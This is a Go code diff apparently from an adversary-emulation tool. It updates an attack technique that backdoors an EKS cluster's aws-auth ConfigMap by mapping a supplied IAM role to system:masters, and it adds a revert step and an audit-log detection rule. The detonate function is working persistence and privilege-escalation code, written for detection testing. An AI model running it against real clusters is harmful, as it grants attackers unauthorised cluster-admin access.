@@ -69,24 +69,33 @@ Through EKS API Server audit logs, by looking for changes to the aws-auth Config
 		PrerequisitesTerraformCode: tf,
 		IsIdempotent:               false,
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
-		Detonate:                   detonate,
-		Revert:                     revert,
+		MitreAttackTechniques:      []string{"T1098.006"},
+		DetectionRule: &stratus.DetectionRule{
+			LogSource: stratus.LogSourceKubernetesAuditLogs,
+			Selections: []stratus.DetectionSelection{
+				{"verb": {"update", "patch"}, "objectRef.resource": {"configmaps"}, "objectRef.namespace": {"kube-system"}, "objectRef.name": {"aws-auth"}},
+			},
+			Level:          stratus.DetectionLevelHigh,
+			FalsePositives: []string{"Administrators and tooling managing the access to the cluster"},
+		},
+		DetonateWithContext: detonate,
+		RevertWithContext:   revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	k8sClient := providers.EKS().GetK8sClient()
 	roleArn := params["role_arn"]
 
 	log.Println("Reading aws-auth ConfigMap in the kube-system namespace")
-	awsAuthConfigMap, err := NewAwsAuthConfigMap(k8sClient)
+	awsAuthConfigMap, err := NewAwsAuthConfigMap(ctx, k8sClient)
 	if err != nil {
 		return err
 	}
 
 	log.Println("Backdooring aws-auth ConfigMap to grant access to the cluster to the role ", roleArn)
 	awsAuthConfigMap.AddRoleMapping(roleArn, "backdoor", []string{"system:masters"})
-	if err := awsAuthConfigMap.Save(); err != nil {
+	if err := awsAuthConfigMap.Save(ctx); err != nil {
 		return err
 	}
 
@@ -94,19 +103,19 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	k8sClient := providers.EKS().GetK8sClient()
 	roleArn := params["role_arn"]
 
 	log.Println("Reading aws-auth ConfigMap in the kube-system namespace")
-	awsAuthConfigMap, err := NewAwsAuthConfigMap(k8sClient)
+	awsAuthConfigMap, err := NewAwsAuthConfigMap(ctx, k8sClient)
 	if err != nil {
 		return err
 	}
 
 	log.Println("Removing aws-auth ConfigMap mapping for role", roleArn)
 	awsAuthConfigMap.RemoveRoleMapping(roleArn)
-	if err := awsAuthConfigMap.Save(); err != nil {
+	if err := awsAuthConfigMap.Save(ctx); err != nil {
 		return err
 	}
 	return nil
@@ -120,14 +129,14 @@ type awsAuthConfigMapEntry struct {
 }
 
 type AwsAuthConfigMap struct {
-	k8sClient    *kubernetes.Clientset
+	k8sClient    kubernetes.Interface
 	configMap    *corev1.ConfigMap
 	roleMappings *[]awsAuthConfigMapEntry
 }
 
-func NewAwsAuthConfigMap(k8sClient *kubernetes.Clientset) (*AwsAuthConfigMap, error) {
+func NewAwsAuthConfigMap(ctx context.Context, k8sClient kubernetes.Interface) (*AwsAuthConfigMap, error) {
 	awsAuth := &AwsAuthConfigMap{k8sClient: k8sClient}
-	configMap, err := k8sClient.CoreV1().ConfigMaps("kube-system").Get(context.Background(), "aws-auth", metav1.GetOptions{})
+	configMap, err := k8sClient.CoreV1().ConfigMaps("kube-system").Get(ctx, "aws-auth", metav1.GetOptions{})
 	if err != nil {
 		return nil, fmt.Errorf("failed to read aws-auth ConfigMap: %w", err)
 	}
@@ -165,13 +174,13 @@ func (m *AwsAuthConfigMap) RemoveRoleMapping(roleArn string) {
 	}
 }
 
-func (m *AwsAuthConfigMap) Save() error {
+func (m *AwsAuthConfigMap) Save(ctx context.Context) error {
 	result, err := yaml.Marshal(m.roleMappings)
 	if err != nil {
 		return fmt.Errorf("failed to marshal aws-auth ConfigMap: %w", err)
 	}
 	m.configMap.Data["mapRoles"] = string(result)
-	_, err = m.k8sClient.CoreV1().ConfigMaps("kube-system").Update(context.Background(), m.configMap, metav1.UpdateOptions{})
+	_, err = m.k8sClient.CoreV1().ConfigMaps("kube-system").Update(ctx, m.configMap, metav1.UpdateOptions{})
 	if err != nil {
 		return fmt.Errorf("failed to update aws-auth ConfigMap: %w", err)
 	}